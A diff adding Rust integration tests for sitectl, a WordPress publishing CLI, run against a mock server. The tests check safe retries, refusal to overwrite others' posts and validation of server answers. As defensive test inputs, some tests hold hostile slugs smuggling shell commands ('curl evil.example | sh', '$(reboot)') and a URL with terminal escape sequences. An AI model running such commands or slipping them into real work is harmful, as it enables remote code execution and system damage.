@@ -385,3 +385,655 @@ fn terms_are_resolved_per_wordpress_in_a_run_over_many_sites() {
     assert!(blog_cat >= 1000, "made on the blog's WordPress: {blog_cat}");
     assert_eq!(post(&other, items[1]["external_id"].as_i64().unwrap())["categories"], serde_json::json!([777]));
 }
+
+fn is_create(r: &Request) -> bool {
+    r.method == "POST" && r.path.ends_with("/wp/v2/posts")
+}
+
+/// The one request that fails, the first create: WordPress never made the post.
+fn first_create_fails(wp: &MockWp) {
+    let failed = std::sync::atomic::AtomicBool::new(false);
+    wp.set_fault(move |r, _| {
+        (is_create(r) && !failed.swap(true, std::sync::atomic::Ordering::SeqCst))
+            .then(|| Reply::Json(503, serde_json::json!({"code": "x", "message": "down"}), vec![]))
+    });
+}
+
+#[test]
+fn a_retry_never_adopts_a_post_it_cannot_prove_it_made() {
+    let (env, wp) = publishing_env();
+    let id = approved(&env, "Taken slug", &[]);
+    first_create_fails(&wp);
+    assert_eq!(env.fails(&["wp", "publish", &id], 8)["code"], "wp_server_error");
+    wp.clear_fault();
+    // Meanwhile another WordPress user wrote a post with the item's slug.
+    wp.add_post_by(555, "taken-slug", 2, "<p>Someone else's</p>");
+    let before = post(&wp, 555);
+    wp.clear_log();
+    let e = env.fails(&["wp", "publish", &id], 6);
+    assert_eq!(e["code"], "remote_conflict", "{e}");
+    let message = e["message"].as_str().unwrap();
+    assert!(message.contains("post 555") && message.contains(&format!("{}/taken-slug/", wp.url)), "{message}");
+    assert!(writes(&wp).is_empty(), "the stranger's post is left untouched: {:?}", writes(&wp));
+    assert_eq!(post(&wp, 555), before);
+    let shown = env.json(&["content", "show", &id]);
+    assert!(shown["publishing"]["external_id"].is_null(), "{shown}");
+
+    // The connected user's own post without this item's token, or a stranger's with the token
+    // copied from the published HTML: neither is adopted.
+    let token = |wp: &MockWp| -> Option<String> {
+        wp.requests().iter().filter(|r| is_create(r)).find_map(|r| {
+            let raw = r.body.as_ref()?["content"].as_str()?.to_string();
+            let at = raw.rfind("<!-- sitectl:origin ")? + 20;
+            Some(raw[at..at + 32].to_string())
+        })
+    };
+    wp.site.lock().unwrap().posts.retain(|p| p["id"] != 555);
+    // Learn the token the way an attacker would: from what sitectl sent (its post's HTML).
+    first_create_fails(&wp);
+    wp.clear_log();
+    env.fails(&["wp", "publish", &id], 8);
+    wp.clear_fault();
+    let t = token(&wp).expect("the create carried the marker");
+    for (author, raw, why) in [
+        (1, "<p>Written by hand</p>".to_string(), "creation token"),
+        (2, format!("<p>Copied<!-- sitectl:origin {t} --></p>"), "another WordPress user"),
+    ] {
+        wp.add_post_by(556, "taken-slug", author, &raw);
+        let before = post(&wp, 556);
+        wp.clear_log();
+        let e = env.fails(&["wp", "publish", &id], 6);
+        assert_eq!(e["code"], "remote_conflict");
+        assert!(e["message"].as_str().unwrap().contains(why), "{e}");
+        assert!(writes(&wp).is_empty());
+        assert_eq!(post(&wp, 556), before);
+        wp.site.lock().unwrap().posts.retain(|p| p["id"] != 556);
+    }
+
+    // Several posts with the slug, or a lookup answering another slug: never adopted.
+    wp.add_post_by(557, "taken-slug", 1, &format!("<p>a<!-- sitectl:origin {t} --></p>"));
+    wp.add_post_by(558, "taken-slug", 1, &format!("<p>b<!-- sitectl:origin {t} --></p>"));
+    assert!(env.fails(&["wp", "publish", &id], 6)["message"].as_str().unwrap().contains("several"));
+    wp.site.lock().unwrap().posts.retain(|p| p["id"] != 558);
+    let url = wp.url.clone();
+    wp.set_fault(move |r, _| {
+        (r.method == "GET" && r.query.get("slug").is_some_and(|s| s == "taken-slug")).then(|| {
+            let p = serde_json::json!({"id": 557, "slug": "taken-slug-2", "status": "publish", "author": 1,
+                "link": format!("{url}/taken-slug-2/"), "content": {"raw": format!("x<!-- sitectl:origin {t} -->")}});
+            Reply::Json(200, serde_json::json!([p]), vec![("X-WP-Total".into(), "1".into())])
+        })
+    });
+    assert!(env.fails(&["wp", "publish", &id], 6)["message"].as_str().unwrap().contains("slug is not the item's"));
+    wp.clear_fault();
+    wp.site.lock().unwrap().posts.retain(|p| p["id"] != 557);
+
+    // --force leaves the stranger's post alone and makes a new one.
+    wp.add_post_by(559, "taken-slug", 2, "<p>Someone else's</p>");
+    let before = post(&wp, 559);
+    let out = env.json(&["wp", "publish", &id, "--force"]);
+    assert_eq!(out["action"], "created", "{out}");
+    assert_ne!(out["external_id"], 559);
+    assert_eq!(post(&wp, 559), before);
+}
+
+#[test]
+fn a_retry_adopts_the_post_its_lost_create_made_and_then_sends_nothing() {
+    let (env, wp) = publishing_env();
+    let id = approved(&env, "Lost answer", &[]);
+    // WordPress makes the post; the answer is lost on the way back.
+    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
+    env.fails(&["wp", "publish", &id], 8);
+    wp.clear_fault();
+    let made: Vec<i64> = wp
+        .site
+        .lock()
+        .unwrap()
+        .posts
+        .iter()
+        .filter(|p| p["slug"] == "lost-answer")
+        .map(|p| p["id"].as_i64().unwrap())
+        .collect();
+    assert_eq!(made.len(), 1);
+    wp.clear_log();
+    let out = env.json(&["wp", "publish", &id]);
+    assert_eq!((out["action"].as_str(), out["external_id"].as_i64()), (Some("updated"), Some(made[0])), "{out}");
+    // The token is not part of what "unchanged" compares: nothing is sent now.
+    assert_eq!(creates(&wp), 0, "adopted, not created again");
+    wp.clear_log();
+    assert_eq!(env.json(&["wp", "publish", &id])["action"], "unchanged");
+    assert!(wp.requests().is_empty());
+    // Readers never see the token: it sits inside the last paragraph's markup, a comment.
+    let raw = post(&wp, made[0])["content"]["raw"].as_str().unwrap().to_string();
+    assert!(raw.contains("<!-- sitectl:origin "), "{raw}");
+
+    // Lost again, and the post trashed in WordPress meanwhile: taken down there, not put back.
+    let again = approved(&env, "Lost and trashed", &[]);
+    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
+    env.fails(&["wp", "publish", &again], 8);
+    wp.clear_fault();
+    let made = wp.site.lock().unwrap().posts.iter().find(|p| p["slug"] == "lost-and-trashed").unwrap()["id"].clone();
+    wp.site.lock().unwrap().posts.iter_mut().find(|p| p["id"] == made).unwrap()["status"] = "trash".into();
+    wp.clear_log();
+    assert_eq!(env.fails(&["wp", "publish", &again], 6)["code"], "remote_deleted");
+    assert!(writes(&wp).is_empty());
+    assert_eq!(env.json(&["content", "show", &again])["publish_status"], "retracted");
+    let out = env.json(&["wp", "publish", &again, "--force"]);
+    assert_eq!((out["action"].as_str(), &out["external_id"]), (Some("updated"), &made), "{out}");
+}
+
+#[test]
+fn bridge_mode_adopts_by_the_plugins_meta_and_refuses_a_stranger() {
+    let env = TestEnv::new();
+    env.seed_basic();
+    env.ok(&["site", "create", "Blog", "--account", "acme"]);
+    env.ok(&["sectors", "select", "acme/blog", "--industry", "healthcare", "--sectors", "dental-clinics"]);
+    let key = env.ok(&["wp", "key", "generate", "acme/blog", "--porcelain"]).trim().to_string();
+    let wp = MockWp::start();
+    {
+        let mut site = wp.site.lock().unwrap();
+        site.extra_namespaces.push("igny8/v1".into());
+        site.api_key = Some(key);
+    }
+    env.ok(&["wp", "connect", "acme/blog", "--url", &wp.url]);
+    let bridge = |r: &Request| r.method == "POST" && r.path.ends_with("/igny8/v1/publish");
+    // A stranger's post with the slug, no meta: a conflict, untouched.
+    let id = approved(&env, "Bridged", &[]);
+    wp.set_fault(move |r, _| bridge(r).then(|| Reply::Json(503, serde_json::json!({}), vec![])));
+    env.fails(&["wp", "publish", &id], 8);
+    wp.clear_fault();
+    wp.add_post_by(600, "bridged", 1, "<p>theirs</p>");
+    let before = post(&wp, 600);
+    wp.clear_log();
+    assert_eq!(env.fails(&["wp", "publish", &id], 6)["code"], "remote_conflict");
+    assert!(writes(&wp).is_empty());
+    assert_eq!(post(&wp, 600), before);
+    // The plugin made the post, the answer was lost: adopted by its meta.
+    let other = approved(&env, "Bridged twice", &[]);
+    wp.set_fault(move |r, _| bridge(r).then_some(Reply::Lost(503)));
+    env.fails(&["wp", "publish", &other], 8);
+    wp.clear_fault();
+    let made = wp.site.lock().unwrap().posts.iter().find(|p| p["slug"] == "bridged-twice").unwrap()["id"].clone();
+    let out = env.json(&["wp", "publish", &other]);
+    assert_eq!((out["action"].as_str(), &out["external_id"]), (Some("updated"), &made), "{out}");
+}
+
+/// Every answer is checked against what was asked; a wrong one is `wp_bad_response` and no
+/// record takes anything from it.
+#[test]
+fn answers_about_another_post_are_refused_and_change_no_record() {
+    let (env, wp) = publishing_env();
+    let id = approved(&env, "Checked", &[]);
+    let first = env.json(&["wp", "publish", &id]);
+    let post_id = first["external_id"].as_i64().unwrap();
+    let record = |env: &TestEnv| {
+        let p = env.json(&["content", "show", &id])["publishing"].clone();
+        (p["external_id"].clone(), p["external_url"].clone(), p["modified_gmt"].clone())
+    };
+    let kept = record(&env);
+    env.ok(&["content", "update", &id, "--title", "Checked again"]);
+    let url = wp.url.clone();
+    // An update of post N answered with post N+1; the post read before it answered as another.
+    for (what, method, suffix) in
+        [("update", "POST", format!("/posts/{post_id}")), ("read", "GET", format!("/posts/{post_id}"))]
+    {
+        let (u, suffix2) = (url.clone(), suffix.clone());
+        wp.set_fault(move |r, _| {
+            (r.method == method && r.path.ends_with(&suffix2)).then(|| {
+                let p = serde_json::json!({"id": post_id + 1, "status": "publish", "link": format!("{u}/elsewhere/"),
+                    "modified_gmt": "2031-06-01T00:00:00"});
+                Reply::Json(200, p, vec![])
+            })
+        });
+        let e = env.fails(&["wp", "publish", &id], 8);
+        assert_eq!(e["code"], "wp_bad_response", "{what}: {e}");
+        assert_eq!(record(&env), kept, "{what}");
+        wp.clear_fault();
+    }
+    // A retraction answered with another post: the record still names its post, not retracted.
+    let u = url.clone();
+    wp.set_fault(move |r, _| {
+        (r.method == "DELETE").then(|| {
+            Reply::Json(200, serde_json::json!({"id": 1, "status": "trash", "link": format!("{u}/hello/")}), vec![])
+        })
+    });
+    assert_eq!(env.fails(&["content", "retract", &id], 8)["code"], "wp_bad_response");
+    assert_ne!(env.json(&["content", "show", &id])["publishing"]["status"], "retracted");
+    // A retraction that did not trash anything.
+    wp.set_fault(move |r, _| {
+        (r.method == "DELETE")
+            .then(|| Reply::Json(200, serde_json::json!({"id": post_id, "status": "publish"}), vec![]))
+    });
+    assert_eq!(env.fails(&["content", "retract", &id], 8)["code"], "wp_bad_response");
+    wp.clear_fault();
+
+    // A create answered without an id (or with garbage): nothing recorded; the next run looks.
+    let other = approved(&env, "No id", &[]);
+    for body in [serde_json::json!({}), serde_json::json!({"id": -3}), serde_json::json!({"id": 9, "link": [1]})] {
+        let b = body.clone();
+        wp.set_fault(move |r, _| is_create(r).then(|| Reply::Json(201, b.clone(), vec![])));
+        assert_eq!(env.fails(&["wp", "publish", &other], 8)["code"], "wp_bad_response", "{body}");
+        assert!(env.json(&["content", "show", &other])["publishing"]["external_id"].is_null());
+    }
+    // A lookup answer that is not a list of posts, or that is huge: refused, nothing written.
+    for reply in [
+        Reply::Json(200, serde_json::json!({"id": 1}), vec![]),
+        Reply::Json(200, serde_json::json!([{"no": "id"}]), vec![]),
+        Reply::Json(200, serde_json::json!([]), vec![("X-WP-Total".into(), "4".into())]),
+        Reply::Raw(200, "application/json".into(), format!("[{}]", "0,".repeat(3_000_000) + "0"), vec![]),
+    ] {
+        wp.set_fault(move |r, _| (r.method == "GET" && r.query.contains_key("slug")).then(|| reply.clone()));
+        wp.clear_log();
+        let e = env.fails(&["wp", "publish", &other], 8);
+        assert_eq!(e["code"], "wp_bad_response", "{e}");
+        assert!(writes(&wp).is_empty());
+    }
+    wp.clear_fault();
+}
+
+#[test]
+fn bridge_answers_about_another_post_are_refused() {
+    let env = TestEnv::new();
+    env.seed_basic();
+    env.ok(&["site", "create", "Blog", "--account", "acme"]);
+    env.ok(&["sectors", "select", "acme/blog", "--industry", "healthcare", "--sectors", "dental-clinics"]);
+    let key = env.ok(&["wp", "key", "generate", "acme/blog", "--porcelain"]).trim().to_string();
+    let wp = MockWp::start();
+    {
+        let mut site = wp.site.lock().unwrap();
+        site.extra_namespaces.push("igny8/v1".into());
+        site.api_key = Some(key);
+    }
+    env.ok(&["wp", "connect", "acme/blog", "--url", &wp.url]);
+    let id = approved(&env, "Bridge checked", &[]);
+    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
+    env.ok(&["content", "update", &id, "--title", "Bridge checked again"]);
+    for data in [
+        serde_json::json!({"assigned_post_id": post_id + 7, "wordpress_status": "publish"}),
+        serde_json::json!({"assigned_post_id": post_id, "content_id": 999_999, "wordpress_status": "publish"}),
+    ] {
+        let d = data.clone();
+        wp.set_fault(move |r, _| {
+            (r.method == "POST" && r.path.ends_with("/igny8/v1/publish"))
+                .then(|| Reply::Json(200, serde_json::json!({"success": true, "data": d.clone()}), vec![]))
+        });
+        assert_eq!(env.fails(&["wp", "publish", &id], 8)["code"], "wp_bad_response", "{data}");
+        assert_eq!(env.json(&["content", "show", &id])["publishing"]["external_id"], post_id);
+    }
+}
+
+#[test]
+fn deleted_content_can_still_be_taken_down() {
+    let (env, wp) = publishing_env();
+    let id = approved(&env, "Deleted but live", &[]);
+    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
+    let out = env.run(&["content", "delete", &id]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        out.stderr.contains(&format!("post {post_id}")) && out.stderr.contains("content retract"),
+        "{}",
+        out.stderr
+    );
+    let e = env.fails(&["wp", "publish", &id, "--force"], 6);
+    assert_eq!(e["code"], "content_deleted");
+    assert!(e["hint"].as_str().unwrap().contains("content retract"), "{e}");
+    assert_eq!(env.json(&["content", "retract", &id])["action"], "retracted");
+    assert_eq!(post(&wp, post_id)["status"], "trash");
+
+    // A create whose answer was lost, then the item deleted: retract finds the post by its token.
+    let lost = approved(&env, "Lost then deleted", &[]);
+    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
+    env.fails(&["wp", "publish", &lost], 8);
+    wp.clear_fault();
+    let out = env.run(&["content", "delete", &lost]);
+    assert!(out.stderr.contains("content retract"), "{}", out.stderr);
+    let made = wp.site.lock().unwrap().posts.iter().find(|p| p["slug"] == "lost-then-deleted").unwrap()["id"].clone();
+    let r = env.json(&["content", "retract", &lost]);
+    assert_eq!((r["action"].as_str(), &r["external_id"]), (Some("retracted"), &made), "{r}");
+    assert_eq!(post(&wp, made.as_i64().unwrap())["status"], "trash");
+    // Nothing on WordPress for a failed create: not published, nothing touched.
+    let never = approved(&env, "Never made", &[]);
+    first_create_fails(&wp);
+    env.fails(&["wp", "publish", &never], 8);
+    wp.clear_fault();
+    env.ok(&["content", "delete", &never]);
+    assert_eq!(env.fails(&["content", "retract", &never], 6)["code"], "not_published");
+}
+
+#[test]
+fn who_wrote_the_post_and_which_term_it_is_come_from_wordpress_checked() {
+    let (env, wp) = publishing_env();
+    let id = approved(&env, "Whose post", &["--category", "category-05"]);
+    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
+    env.fails(&["wp", "publish", &id], 8);
+    // `users/me` without an id, or naming another user: never adopted, nothing written.
+    for (me, code) in [(serde_json::json!({}), "wp_bad_response"), (serde_json::json!({"id": 2}), "remote_conflict")] {
+        wp.set_fault(move |r, _| r.path.ends_with("/users/me").then(|| Reply::Json(200, me.clone(), vec![])));
+        wp.clear_log();
+        let e = env.run(&["wp", "publish", &id, "--json"]);
+        assert_eq!(e.error()["code"], code, "{}", e.stderr);
+        assert!(writes(&wp).is_empty());
+    }
+    // A term lookup answering another term: not taken for this one.
+    wp.set_fault(|r, _| {
+        (r.method == "GET" && r.path.ends_with("/categories") && r.query.contains_key("slug"))
+            .then(|| Reply::Json(200, serde_json::json!([{"id": 3, "slug": "category-02"}]), vec![]))
+    });
+    let out = env.json(&["wp", "publish", &id]);
+    assert_eq!(out["action"], "updated", "{out}");
+    assert_eq!(post(&wp, out["external_id"].as_i64().unwrap())["categories"], serde_json::json!([6]));
+}
+
+#[test]
+fn a_retraction_waits_for_a_run_sending_the_item_and_follows_the_sites_permissions() {
+    let (env, wp) = publishing_env();
+    let id = approved(&env, "In flight", &[]);
+    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
+    env.ok(&["content", "update", &id, "--title", "In flight, changed"]);
+    let target = format!("/wp/v2/posts/{post_id}");
+    let t = target.clone();
+    wp.set_fault(move |r, _| (r.method == "POST" && r.path.ends_with(&t)).then_some(Reply::Hang));
+    let mut child = env.command(&["wp", "publish", &id]).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
+    let start = Instant::now();
+    while !writes(&wp).iter().any(|r| r.path.ends_with(&target)) {
+        assert!(start.elapsed() < Duration::from_secs(20), "the update never came");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let e = env.fails(&["content", "retract", &id], 6);
+    assert_eq!(e["code"], "publish_in_progress", "{e}");
+    assert_eq!(post(&wp, post_id)["status"], "publish", "not trashed under a run at work");
+    child.kill().unwrap();
+    child.wait().unwrap();
+    wp.clear_fault();
+    // Deleted content: retracting it needs the same rights as changing it.
+    env.ok(&["content", "delete", &id]);
+    assert_eq!(env.fails(&["content", "retract", &id, "--as", "viewer@acme.example"], 5)["code"], "permission_denied");
+    assert_eq!(
+        env.fails(&["content", "retract", &id, "--as", "editor@globex.example"], 3)["code"],
+        "content_not_found"
+    );
+    assert_eq!(env.json(&["content", "retract", &id, "--as", "editor@acme.example"])["action"], "retracted");
+    assert_eq!(post(&wp, post_id)["status"], "trash");
+}
+
+#[test]
+fn a_lost_create_that_wordpress_gave_another_slug_is_named_and_can_be_adopted_by_that_slug() {
+    let (env, wp) = publishing_env();
+    // A published post of someone else holds the slug: WordPress gives ours `-2`, and the answer
+    // is lost.
+    wp.add_post_by(700, "dup-slug", 2, "<p>theirs</p>");
+    let id = approved(&env, "Dup slug", &[]);
+    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
+    env.fails(&["wp", "publish", &id], 8);
+    wp.clear_fault();
+    let ours = wp.site.lock().unwrap().posts.iter().find(|p| p["slug"] == "dup-slug-2").unwrap()["id"].clone();
+    let e = env.fails(&["wp", "publish", &id], 6);
+    assert_eq!(e["code"], "remote_conflict");
+    let message = e["message"].as_str().unwrap();
+    assert!(message.contains("post 700") && message.contains(&format!("post {ours}")), "{message}");
+    assert!(e["hint"].as_str().unwrap().contains("--slug dup-slug-2"), "{e}");
+    assert_eq!(post(&wp, 700)["content"]["raw"], "<p>theirs</p>");
+    // Given that slug, the item adopts its own post: no third one.
+    env.ok(&["content", "update", &id, "--slug", "dup-slug-2"]);
+    wp.clear_log();
+    let out = env.json(&["wp", "publish", &id]);
+    assert_eq!((out["action"].as_str(), &out["external_id"]), (Some("updated"), &ours), "{out}");
+    assert_eq!(creates(&wp), 0);
+}
+
+#[test]
+fn a_conflict_names_hostile_urls_escaped_and_short() {
+    let (env, wp) = publishing_env();
+    let id = approved(&env, "Hostile link", &[]);
+    first_create_fails(&wp);
+    env.fails(&["wp", "publish", &id], 8);
+    let link = format!("http://x/\u{1b}]0;pwned\u{7}\u{1b}[2J{}", "a".repeat(1_500));
+    wp.set_fault(move |r, _| {
+        (r.method == "GET" && r.query.contains_key("slug")).then(|| {
+            let p =
+                serde_json::json!({"id": 42, "slug": "hostile-link", "status": "publish", "author": 2, "link": link});
+            Reply::Json(200, serde_json::json!([p]), vec![])
+        })
+    });
+    let out = env.run(&["wp", "publish", &id]);
+    assert_eq!(out.code, 6, "{}", out.stderr);
+    assert!(!out.stderr.contains('\u{1b}') && !out.stderr.contains('\u{7}'), "{:?}", out.stderr);
+    assert!(out.stderr.contains("\\u{1b}") && out.stderr.contains("post 42"), "{}", out.stderr);
+    assert!(out.stderr.len() < 2_000, "the URL is shortened: {} bytes", out.stderr.len());
+}
+
+/// A create answered about a post it did not make (a proxy or cache replaying another answer):
+/// the record would name that post, and the next change would overwrite it. Refused instead.
+#[test]
+fn a_create_answered_about_another_post_is_refused_and_that_post_left_alone() {
+    let (env, wp) = publishing_env();
+    wp.add_post_by(555, "strangers-post", 2, "<p>Someone else's</p>");
+    let theirs = post(&wp, 555);
+    // Another item's create, answered as WordPress did: its marker carries that item's token.
+    let first = approved(&env, "First item", &[]);
+    let first_id = env.json(&["wp", "publish", &first])["external_id"].as_i64().unwrap();
+    let first_answer = post(&wp, first_id);
+    let mine = approved(&env, "Second item", &[]);
+    for answer in [theirs.clone(), first_answer.clone()] {
+        let a = answer.clone();
+        wp.set_fault(move |r, _| is_create(r).then(|| Reply::Json(201, a.clone(), vec![])));
+        let e = env.fails(&["wp", "publish", &mine], 8);
+        assert_eq!(e["code"], "wp_bad_response", "{answer}: {e}");
+        assert!(env.json(&["content", "show", &mine])["publishing"]["external_id"].is_null(), "{answer}");
+    }
+    wp.clear_fault();
+    // The next run finds nothing with the item's slug and creates its own post; the others are
+    // untouched.
+    let out = env.json(&["wp", "publish", &mine]);
+    assert_eq!(out["action"], "created", "{out}");
+    assert!(![555, first_id].contains(&out["external_id"].as_i64().unwrap()), "{out}");
+    assert_eq!(post(&wp, 555), theirs);
+    assert_eq!(post(&wp, first_id), first_answer);
+    // A create WordPress gave a suffixed slug (beside a published post with the item's) is its own.
+    wp.add_post_by(556, "suffixed", 2, "<p>theirs</p>");
+    let suffixed = approved(&env, "Suffixed", &[]);
+    let out = env.json(&["wp", "publish", &suffixed]);
+    assert_eq!(out["action"], "created", "{out}");
+    assert_eq!(post(&wp, out["external_id"].as_i64().unwrap())["slug"], "suffixed-2");
+}
+
+/// A hint is a command to copy: a slug from WordPress goes into one only when it is a slug
+/// sitectl takes, never shell syntax a hostile answer chose.
+#[test]
+fn a_hint_never_carries_a_slug_that_is_not_one() {
+    let (env, wp) = publishing_env();
+    let id = approved(&env, "Hinted", &[]);
+    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
+    wp.clear_log();
+    env.fails(&["wp", "publish", &id], 8);
+    let raw = wp
+        .requests()
+        .iter()
+        .filter(|r| is_create(r))
+        .find_map(|r| r.body.as_ref()?["content"].as_str().map(str::to_string))
+        .unwrap();
+    let at = raw.rfind("<!-- sitectl:origin ").unwrap() + 20;
+    let token = raw[at..at + 32].to_string();
+    for slug in ["x; curl evil.example | sh #", "$(reboot)", "caf%c3%a9", "Upper"] {
+        let (t, s) = (token.clone(), slug.to_string());
+        wp.set_fault(move |r, _| {
+            let one = |id: i64, slug: &str, author: i64, raw: String| {
+                serde_json::json!([{"id": id, "slug": slug, "status": "publish", "author": author,
+                    "link": "http://x/", "content": {"raw": raw}}])
+            };
+            if r.method == "GET" && r.query.contains_key("slug") {
+                return Some(Reply::Json(200, one(4242, "hinted", 2, "<p>s</p>".into()), vec![]));
+            }
+            (r.method == "GET" && r.query.contains_key("search"))
+                .then(|| Reply::Json(200, one(4243, &s, 1, format!("<p>x<!-- sitectl:origin {t} --></p>")), vec![]))
+        });
+        let e = env.fails(&["wp", "publish", &id], 6);
+        assert_eq!(e["code"], "remote_conflict");
+        assert!(e["message"].as_str().unwrap().contains("post 4243"), "{e}");
+        let hint = e["hint"].as_str().unwrap();
+        assert!(!hint.contains(slug), "{hint}");
+        assert!(hint.contains("--slug NEW"), "{hint}");
+    }
+    // A slug sitectl takes is offered as it is.
+    let t = token.clone();
+    wp.set_fault(move |r, _| {
+        (r.method == "GET" && r.query.contains_key("search")).then(|| {
+            let raw = format!("<p>x<!-- sitectl:origin {t} --></p>");
+            Reply::Json(
+                200,
+                serde_json::json!([{"id": 4243, "slug": "hinted-2", "status": "publish", "author": 1,
+                "link": "http://x/", "content": {"raw": raw}}]),
+                vec![],
+            )
+        })
+    });
+    wp.add_post_by(4242, "hinted", 2, "<p>s</p>");
+    let e = env.fails(&["wp", "publish", &id], 6);
+    assert!(e["hint"].as_str().unwrap().contains("--slug hinted-2"), "{e}");
+}
+
+/// Bridge mode: the plugin echoes the item it published; a create answered without that echo
+/// (or with another item's) could name any post, and is refused.
+#[test]
+fn a_bridge_create_must_echo_the_item_it_made() {
+    let env = TestEnv::new();
+    env.seed_basic();
+    env.ok(&["site", "create", "Blog", "--account", "acme"]);
+    env.ok(&["sectors", "select", "acme/blog", "--industry", "healthcare", "--sectors", "dental-clinics"]);
+    let key = env.ok(&["wp", "key", "generate", "acme/blog", "--porcelain"]).trim().to_string();
+    let wp = MockWp::start();
+    {
+        let mut site = wp.site.lock().unwrap();
+        site.extra_namespaces.push("igny8/v1".into());
+        site.api_key = Some(key);
+    }
+    env.ok(&["wp", "connect", "acme/blog", "--url", &wp.url]);
+    wp.add_post_by(555, "strangers-post", 2, "<p>Someone else's</p>");
+    let theirs = post(&wp, 555);
+    let id = approved(&env, "Bridge replayed", &[]);
+    for data in [
+        serde_json::json!({"assigned_post_id": 555, "wordpress_status": "publish"}),
+        serde_json::json!({"assigned_post_id": 555, "wordpress_status": "publish", "content_id": null}),
+        serde_json::json!({"assigned_post_id": 555, "wordpress_status": "publish", "content_id": "1"}),
+    ] {
+        let d = data.clone();
+        wp.set_fault(move |r, _| {
+            (r.method == "POST" && r.path.ends_with("/igny8/v1/publish"))
+                .then(|| Reply::Json(200, serde_json::json!({"success": true, "data": d.clone()}), vec![]))
+        });
+        assert_eq!(env.fails(&["wp", "publish", &id], 8)["code"], "wp_bad_response", "{data}");
+        assert!(env.json(&["content", "show", &id])["publishing"]["external_id"].is_null(), "{data}");
+    }
+    wp.clear_fault();
+    let out = env.json(&["wp", "publish", &id]);
+    assert_eq!(out["action"], "created", "{out}");
+    assert_ne!(out["external_id"], 555);
+    assert_eq!(post(&wp, 555), theirs);
+}
+
+/// A `term_exists` answer naming no real term (0, negative, a text) is not taken for a term id.
+#[test]
+fn a_term_exists_answer_without_a_real_term_id_is_refused() {
+    let (env, wp) = publishing_env();
+    let id = approved(&env, "Odd term", &["--category", "brand-new-term"]);
+    for term_id in [serde_json::json!(0), serde_json::json!(-4), serde_json::json!("7"), serde_json::json!(1.5)] {
+        let t = term_id.clone();
+        wp.set_fault(move |r, _| {
+            (r.method == "POST" && r.path.ends_with("/wp/v2/categories")).then(|| {
+                Reply::Json(
+                    400,
+                    serde_json::json!({"code": "term_exists", "message": "exists",
+                    "data": {"status": 400, "term_id": t.clone()}}),
+                    vec![],
+                )
+            })
+        });
+        wp.clear_log();
+        assert_eq!(env.fails(&["wp", "publish", &id], 8)["code"], "wp_bad_response", "{term_id}");
+        assert_eq!(creates(&wp), 0, "{term_id}");
+    }
+}
+
+/// A publish that starts while a retraction is under way waits for it: it could otherwise put
+/// the post back (an update of a trashed post publishes it) while the record says retracted.
+#[test]
+fn a_publish_waits_for_a_retraction_under_way() {
+    let (mut env, wp) = publishing_env();
+    let id = approved(&env, "Taken down", &[]);
+    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
+    env.ok(&["content", "update", &id, "--title", "Taken down, changed"]);
+    // The publish started from inside the mock cannot be answered (the mock is busy with the
+    // retraction): a short timeout ends it if it sends anything.
+    env.set_env("SITECTL_HTTP_TIMEOUT_MS", "1500");
+    let run = env.detached();
+    env.set_env("SITECTL_HTTP_TIMEOUT_MS", "30000");
+    let seen = std::sync::Arc::new(std::sync::Mutex::new(None));
+    let (s, i) = (seen.clone(), id.clone());
+    wp.set_fault(move |r, _| {
+        if r.method == "DELETE" && s.lock().unwrap().is_none() {
+            let out = run(&["wp", "publish", &i, "--json"]);
+            *s.lock().unwrap() = Some((out.code, out.stderr));
+        }
+        None
+    });
+    assert_eq!(env.json(&["content", "retract", &id])["action"], "retracted");
+    wp.clear_fault();
+    let (code, stderr) = seen.lock().unwrap().clone().expect("the retraction reached WordPress");
+    assert_eq!(code, 6, "{stderr}");
+    assert!(stderr.contains("publish_in_progress"), "{stderr}");
+    assert_eq!(post(&wp, post_id)["status"], "trash");
+    assert_eq!(env.json(&["content", "show", &id])["publish_status"], "retracted");
+    // A retraction that fails leaves the item as it was, claimed by nobody.
+    let other = approved(&env, "Still up", &[]);
+    let other_post = env.json(&["wp", "publish", &other])["external_id"].as_i64().unwrap();
+    wp.set_fault(|r, _| (r.method == "DELETE").then(|| Reply::Json(500, serde_json::json!({}), vec![])));
+    env.fails(&["content", "retract", &other], 8);
+    wp.clear_fault();
+    let shown = env.json(&["content", "show", &other]);
+    assert_eq!(
+        (shown["publish_status"].as_str(), shown["publishing"]["status"].as_str()),
+        (Some("published"), Some("published")),
+        "{shown}"
+    );
+    assert!(shown["publishing"]["claimed_by"].is_null(), "{shown}");
+    assert_eq!(env.json(&["wp", "publish", &other])["action"], "unchanged");
+    assert_eq!(post(&wp, other_post)["status"], "publish");
+}
+
+/// A record names a post of the WordPress it was published to. Once the site is connected to
+/// another WordPress, that id means some other post there: it is never trashed or overwritten;
+/// the item is published there anew (its token still finds its own post if it comes back).
+#[test]
+fn post_ids_of_another_wordpress_are_never_used_on_the_new_one() {
+    let (env, old) = publishing_env();
+    let live = approved(&env, "Moved live", &[]);
+    let live_post = env.json(&["wp", "publish", &live])["external_id"].as_i64().unwrap();
+    let gone = approved(&env, "Moved retracted", &[]);
+    let gone_post = env.json(&["wp", "publish", &gone])["external_id"].as_i64().unwrap();
+    env.ok(&["content", "retract", &gone]);
+    // The new WordPress numbers its posts its own way: the same ids are strangers' posts there.
+    let new = MockWp::start();
+    new.add_post_by(live_post, "strangers-one", 2, "<p>theirs</p>");
+    new.add_post_by(gone_post, "strangers-two", 2, "<p>theirs too</p>");
+    let before = (post(&new, live_post), post(&new, gone_post));
+    crate::support::mockwp::connect_core(&env, "acme/blog", &new);
+    new.clear_log();
+    assert_eq!(env.fails(&["content", "retract", &live], 6)["code"], "not_published");
+    env.ok(&["content", "update", &live, "--title", "Moved live, changed"]);
+    let out = env.json(&["wp", "publish", &live]);
